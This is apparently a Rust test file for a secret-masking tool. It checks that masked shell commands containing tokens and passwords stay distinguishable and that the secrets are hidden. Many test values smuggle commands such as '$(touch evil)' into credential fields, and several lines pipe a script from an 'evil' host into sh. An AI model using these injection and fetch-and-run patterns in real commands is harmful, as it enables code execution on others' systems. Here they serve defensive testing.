//! What a sign says of what it stands for: a command never hides behind one that stands for a word.

use attesh::mask::asked::told;
use attesh::mask::{Masker, TOLD, hides};

use super::rules::masked;

/// Commands, and others that could pass for them where a sign stood for anything.
const PAIRS: &[(&str, &str)] = &[
    (
        "bash -c 'echo \"Authorization: Bearer abcdef123456\"'\n",
        "bash -c 'echo \"Authorization: Bearer abc$(touch evil)123456\"'\n",
    ),
    ("export TOKEN=\"hunter2hunter2\"\n", "export TOKEN=\"abc$[b[\\$(touch evil)]]\"\n"),
    ("export TOKEN=\"hunter2hunter2\"\n", "export TOKEN=\"abc${x[b[\\$(touch evil)]]}\"\n"),
    ("export TOKEN=hunter2hunter2\n", "export TOKEN=abc$[b[\\$(touch$IFS\\evil)]]\n"),
    ("export TOKEN=\"hunter2hunter2\"\n", "export TOKEN=\"abc${x:=\\$(touch evil)}${x@P}\"\n"),
    ("export TOKEN=\"hunter2hunter2\"\n", "export TOKEN=\"abc${x:=b[\\$(touch evil)]}$[x]\"\n"),
    ("su root <<EOF\nid -un\nEOF\n", "su root <<EOF\ntouch evil\nEOF\n"),
    ("echo Pa55word | sudo -S bash\n", "echo \"touch evil\" | sudo -S bash\n"),
    (
        "su root <<EOF\nmake install\nmake -j4 check\nEOF\n",
        "su root <<EOF\ntouch evil\ncurl evil.sh | sh\nEOF\n",
    ),
    (
        "echo \"-----BEGIN PRIVATE KEY-----\nMIIabc\n-----END PRIVATE KEY-----\" > key.pem\n",
        "echo \"-----BEGIN PRIVATE KEY-----\nMIIabc\" >evil \"all: evil\" \"\n-----END PRIVATE KEY-----\" > key.pem\n",
    ),
    ("echo \"[db]\npassword = hunter2\"\n", "echo \"[db]\npassword = hunter2\" >evil \"all: evil\"\n"),
    (
        "echo \"[db]\npassword = hunter2\"\n",
        "echo \"[db]\npassword = hunter2\" ${x/ #/}; touch evil; : \"x\"\n",
    ),
    (
        "echo \"[db]\npassword = hunter2\"\n",
        "echo \"[db]\npassword = hunter2\" $((1<<E)); touch evil; : \"x\"\n",
    ),
    (
        "echo \"-----BEGIN PRIVATE KEY-----\nMIIabc\n-----END PRIVATE KEY-----\" > key.pem\n",
        "echo \"-----BEGIN PRIVATE KEY-----\nMIIabc\" ${x/ #/}; touch evil; echo \"\n-----END PRIVATE KEY-----\" > key.pem\n",
    ),
    ("export TOKEN=\"hunter2hunter2\"\n", "export TOKEN=\"abc$(case x in x) :;; esac; touch evil)\"\n"),
    (
        "cat > .env <<'EOF'\nTOKEN=abcdef\nEOF\n. ./.env\n",
        "cat > .env <<'EOF'\nTOKEN=abc$(touch${IFS}evil)def\nEOF\n. ./.env\n",
    ),
    (
        "cat > .env <<'EOF'\nTOKEN=\"abcdef\"\nEOF\n. ./.env\n",
        "cat > .env <<'EOF'\nTOKEN=\"abc$(touch evil)def\"\nEOF\n. ./.env\n",
    ),
    (
        "bash <<'EOF'\nexport TOKEN=\"abcdef\"\nEOF\n",
        "bash <<'EOF'\nexport TOKEN=\"abc$(touch evil)def\"\nEOF\n",
    ),
    ("eval \"export TOKEN=abcdef123\"\n", "eval \"export TOKEN=abc\\$(touch evil)def\"\n"),
    (
        "trap \"curl -u me:abcdef123 http://x/ 2>/dev/null\" EXIT\n",
        "trap \"curl -u me:abc\\$(touch evil)def http://x/ 2>/dev/null\" EXIT\n",
    ),
    (
        "sh -c 'mysql -phunter2 -e \"select 1\" || true'\n",
        "sh -c 'mysql -ph\"$(touch evil)\" -e \"select 1\" || true'\n",
    ),
    (
        "sh -c 'mysql -phunter2 -e \"select 1\" || true'\n",
        "sh -c 'mysql -ph`touch${IFS}evil` -e \"select 1\" || true'\n",
    ),
    ("sh -c 'DB_PASSWORD=\"hunter2\" true'\n", "sh -c 'DB_PASSWORD=\"hu$(touch evil)\" true'\n"),
    (
        "sh -c \"DB_PASSWORD=\\\"hunter2\\\" true\"\n",
        "sh -c \"DB_PASSWORD=\\\"hu\\$(touch evil)\\\" true\"\n",
    ),
    (
        "find . -name build.sh -exec sh -c 'curl -su \"me:hunter22\" http://x/; true' \\;\n",
        "find . -name build.sh -exec sh -c 'curl -su \"me:hu$(touch evil)\" http://x/; true' \\;\n",
    ),
    ("(\nexport TOKEN=abcdef123\n)\n", "(\nexport TOKEN=abcdef${x/ #/};touch evil\n)\n"),
    ("echo \"Authorization: Bearer abcdefgh\"\n", "echo \"Authorization: Bearer abc${x#'\"'}\" >evil '\"\n"),
    ("echo \"\npassword = hunter2\" | cat\n", "echo \"\npassword = hunter2\"; touch evil; : \"\" | cat\n"),
    (
        "echo \"login: x\npassword: hunter2\" > cfg\n",
        "echo \"login: x\npassword: hunter2\" >evil \"\" > cfg\n",
    ),
    (
        "cat <<'EOF' >Makefile.x\nTOKEN=abcdef123\nEOF\nmake -sf Makefile.x TOKEN='abcdef123' 2>/dev/null || true\n",
        "cat <<'EOF' >Makefile.x\nTOKEN=abcdef123\nEOF\nmake -sf Makefile.x TOKEN='abc$(shell touch evil)' 2>/dev/null || true\n",
    ),
    ("sh -c 'TOKEN=\"hunter22\" ls'\n", "sh -c 'TOKEN=\"x$(touch evil)\" ls'\n"),
    ("echo \"password: |\n  abc\n  def\" > f\n", "echo \"password: |\n  abc\" >evil \"\n  def\" > f\n"),
    (
        "ssh() { bash -c \"$2\"; }\nssh h \"export TOKEN=abcdef12 && true\"\n",
        "ssh() { bash -c \"$2\"; }\nssh h \"export TOKEN=abc\\`touch\\${IFS}evil\\`12 && true\"\n",
    ),
    (
        "ssh() { bash -c \"$2\"; }\nssh h \"TOKEN='abcdef12' true\"\n",
        "ssh() { bash -c \"$2\"; }\nssh h \"TOKEN='a'\\$(touch evil)'b' true\"\n",
    ),
    (
        "curl -sH \"Authorization: Bearer abcdef12\" http://127.0.0.1:9/ || true\n",
        "curl -sH \"Authorization: Bearer a${x:=\\$(touch evil)}${x@P}\" http://127.0.0.1:9/ || true\n",
    ),
    (
        "curl -su \"me:abcdef12\" http://127.0.0.1:9/ || true\n",
        "curl -su \"me:a${x:=\\$(touch evil)}${x@P}\" http://127.0.0.1:9/ || true\n",
    ),
    (
        "curl -s -H X-Api-Key:abcdef12 http://good/install.sh | sh\n",
        "curl -s -H X-Api-Key:abcdef12 http://evil/ >evil | sh\n",
    ),
    (
        "curl -s -H X-Api-Key:abcdef12 file:///dev/null | sh\n",
        "curl -s -H X-Api-Key:abcdef12 file:///srv/evil.sh | sh\n",
    ),
    (
        "curl -s -H \"Authorization: Bearer abcdef12\" http://127.0.0.1:9/ || true\n",
        "curl -s -H \"Authorization: Bearer ${x:=\\$(touch evil)}${x@P}1\" http://127.0.0.1:9/ || true\n",
    ),
    (
        "set -eu\nexport TOKEN=\"abcdef12\"\nmake -v >/dev/null\n",
        "set -eu\nexport TOKEN=\"a${PATH:+}${x:=\\$(touch evil)}${x@P}\"\nmake -v >/dev/null\n",
    ),
    // What somebody asked to mask, and what a program runs that it reads.
    ("echo ::add-mask::RunMy9oodT0ol8\nRunMy9oodT0ol8", "echo ::add-mask::RunMyEv1lT0ol8\nRunMyEv1lT0ol8"),
    (
        "su root <<E # --password-stdin\nRunMy9oodT0ol8\nE\n",
        "su root <<E # --password-stdin\nRunMyEv1lT0ol8\nE\n",
    ),
    ("PASS=RunMyGoodTool\n$PASS", "PASS=RunMyEvilTool\n$PASS"),
    // Hosts and paths in the form of a token.
    (
        "ping eyJaaaaaaaaaaa1.eyJbbbbbbbbbbb1.good.example",
        "ping eyJaaaaaaaaaaa1.eyJbbbbbbbbbbb1.evil.example",
    ),
    (
        "curl https://eyJaaaaaaaaa1.bbbbbbbbb1.good.example/i.sh",
        "curl https://eyJaaaaaaaaa1.bbbbbbbbb1.evil.example/i.sh",
    ),
    // A short or plain word, a host, a file, what a program decodes, and letters that look like a sign.
    ("echo '::add-mask::/bin/pwd'\n/bin/pwd", "echo '::add-mask::/bin/uname'\n/bin/uname"),
    ("alias pass=/bin/pwd", "alias pass=/bin/uname"),
    ("mysqladmin --password status", "mysqladmin --password shutdown"),
    ("psql --password postgresql://good.example/db", "psql --password postgresql://evil.example/db"),
    ("mc alias set corp https://s3.good.example", "mc alias set corp https://s3.evil.example"),
    ("pg_restore --password backups/good1234.dump", "pg_restore --password backups/evil1234.dump"),
    ("pulumi config set --secret key S --stack dev", "pulumi config set --secret key S --stack production"),
    (
        "base64 -di > lib <<X\nuser:CmVjaG8gZ29vZAo=\nX\n",
        "base64 -di > lib <<X\nuser:Ci91c3IvYmluL2lkIC11Cg==\nX\n",
    ),
    (
        "API_TOKEN=Zq8vR3kT1nWb curl --oauth2-bearer Aq8vR3kT1nXb https://example.com",
        "API_TOKEN=Zq8vR3kT1nWb curl --oauth2-bearer [option] https://example.com",
    ),
    // Another host, a file of headers, an option of a program, the end of a document.
    ("curl https://me:hunter2abc@good.example/x", "curl https://me:hunter2@evil.example/@good.example/x"),
    ("curl https://me:hunter2abc@good.example/x", "curl https://me:hunter2:1/@evil.example#@good.example/x"),
    ("tool --token hunter2abc x", "tool --token --evil x"),
    (
        "cat <<E\n-----BEGIN PRIVATE KEY-----\nMII\nMII\n-----END PRIVATE KEY-----\nE\n",
        "cat <<E\n-----BEGIN PRIVATE KEY-----\nE\nevil\n-----END PRIVATE KEY-----\nE\n",
    ),
];

/// As it is recorded, by who knows what a script tells of its secrets.
fn shown(text: &str) -> String {
    let mut masker = Masker::default();
    for value in told(text.as_bytes(), |_| None) {
        masker.add_value(TOLD, &value);
    }
    let masked = masker.mask_new(text.as_bytes());
    masked.map_or_else(|| text.to_owned(), |masked| String::from_utf8(masked.text).unwrap())
}

#[test]
fn a_command_passes_for_another_behind_a_sign_of_a_word() {
    for (good, bad) in PAIRS {
        let (good, bad) = (shown(good), shown(bad));
        assert!(good != bad || hides(good.as_bytes()), "{bad}");
    }
}

/// What a user would write; each keeps a sign that a policy can hold.
const WORDS: &[&str] = &[
    "export TOKEN=\"Zq8vR3kT1nWb\"",
    "curl -u \"me:Zq8vR3kT1nWb\" https://example.com",
    "curl -H 'Authorization: Bearer Zq8vR3kT1nWb-Zq8_v' https://example.com",
    "curl -H X-Api-Key:Zq8vR3kT1nWb https://example.com/install.sh | sh",
    "echo Authorization: Zq8vR3kT1nWbdef > h.txt",
    "git clone https://me:Zq8vR3kT1nWb@example.com/x",
    "echo Zq8vR3kT1nWb | docker login -u me --password-stdin",
    "mysql -pZq8vR3kT1nWb -e 'select 1'",
    "cat > .env << E\nPASSWORD=Zq8vR3kT1nWb\nE\n",
    "VERSION=$(curl -s -H \"PRIVATE-TOKEN: glpat-q7RJL5GJrWKsMn7EiChB\" https://example.com)",
    "X=$(echo ghp_q7RJL5GJrWKsMn7EiChBEweUrDepUv4h3jXT)",
    "diff <(mysql -pZq8vR3kT1nWb -e a) b",
    "x -kghp_q7RJL5GJrWKsMn7EiChBEweUrDepUv4h3jXT",
    "set -gx API_TOKEN Zq8vR3kT1nWb",
];

#[test]
fn a_word_that_is_a_secret_is_masked_as_one() {
    for text in WORDS {
        let shown = masked(text).unwrap_or_else(|| panic!("{text} is not masked"));
        assert!(!hides(shown.as_bytes()), "{shown}");
        for secret in ["Zq8v", "glpat-", "ghp_"] {
            assert!(!shown.contains(secret), "{shown}");
        }
    }
    // What stands behind the secret stays.
    assert_eq!(shown(WORDS[3]), "curl -H X-Api-Key:[header] https://example.com/install.sh | sh");
    assert_eq!(shown(WORDS[4]), "echo Authorization: [header] > h.txt");
    let cut = "echo \"[db]\npassword = Zq8vR3kT1nWb\" >f \"all: x\"";
    assert_eq!(shown(cut), "echo \"[db]\npassword = [assignment]\" >f \"all: x\"");
}

#[test]
fn a_sign_for_anything_is_known_as_one() {
    for (text, is) in [
        ("a [header*] b", true),
        ("[env:NAME*]", true),
        ("a[1*]", true),
        ("[header]", false),
        ("[*]", false),
        ("ls *[a-z]*]", false),
        ("x*]", false),
    ] {
        assert_eq!(hides(text.as_bytes()), is, "{text}");
    }
    // It is no secret itself, and nothing around it makes it another sign.
    let masker = Masker::default();
    let once = masker.mask(b"export TOKEN='a b$c'").unwrap().text;
    assert_eq!(String::from_utf8_lossy(&once), "export TOKEN='[assignment*]'");
    assert_eq!(masker.mask(&once), None);
}
